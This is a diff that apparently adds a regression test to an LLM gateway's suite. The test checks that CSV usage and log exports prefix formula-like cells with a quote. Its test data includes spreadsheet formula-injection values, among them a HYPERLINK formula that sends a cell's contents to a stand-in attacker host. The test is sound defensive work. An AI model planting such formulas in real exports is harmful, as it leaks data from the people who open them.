@@ -5,6 +5,8 @@ configured price, chosen by `auto` instead of the demo, two boxes at once, and a
 keeping the last list."""
 from __future__ import annotations
 
+import csv
+import io
 import os
 import subprocess
 import sys
@@ -216,3 +218,32 @@ def test_at_most_2000_discovered_models_per_provider(boxes, start, make_openai_c
     gw, _ = start(three_lines("big", boxes(many), price=False))
     served = ids(make_openai_client(gw))
     assert set(many[:2000]) <= served and not served & set(many[2000:]), len(served)
+
+
+def test_csv_exports_write_formula_like_text_as_text(boxes, start, make_openai_client, tmp_path):
+    """A model id a box lists (`=1+2`, `@SUM(A1)`) or a key's name (`=HYPERLINK(...)`, chosen by any user
+    of the account) went into `routerone usage --format csv` and the console's logs.csv as is: a
+    formula when the export is opened in a spreadsheet. Such cells now start with a quote."""
+    import re as _re
+    import httpx2
+    from routerone.console.web import CONSOLE
+    box = boxes(["=1+2", "@SUM(A1)", "plain"])
+    gw, cfg = start(three_lines("gpubox", box, price=False))
+    key, account_id = gw.new_key(name='=HYPERLINK("http://evil.example/?"&A1)')
+    client = openai.OpenAI(base_url=gw.base_url, api_key=key, max_retries=0)
+    for model in ("=1+2", "@SUM(A1)", "plain"):
+        client.chat.completions.create(model=model, messages=[{"role": "user", "content": "hi"}])
+    time.sleep(0.5)                                                     # the usage writer's flush
+    out = cli("usage", "--by", "model", "--format", "csv", "--config", str(cfg),
+              "--database-url", gw.settings.database_url)
+    assert out.returncode == 0, out.stderr
+    cells = [line.split(",")[0] for line in out.stdout.splitlines()[1:]]
+    assert sorted(cells) == ["'=1+2", "'@SUM(A1)", "plain"], out.stdout
+    gw.call(gw.app[CONSOLE].users.create("u@example.com", "user-password-1", account_id=account_id))
+    with httpx2.Client(base_url=gw.url, follow_redirects=True, timeout=30) as web:
+        csrf = _re.search(r'name="csrf" value="([^"]+)"', web.get("/console/login").text).group(1)
+        web.post("/console/login", data={"csrf": csrf, "email": "u@example.com", "password": "user-password-1"})
+        rows = list(csv.reader(io.StringIO(web.get("/console/logs.csv").text)))
+    assert len(rows) == 4, rows
+    assert {r[2] for r in rows[1:]} == {"'=HYPERLINK(\"http://evil.example/?\"&A1)"}
+    assert sorted(r[3] for r in rows[1:]) == ["'=1+2", "'@SUM(A1)", "plain"]
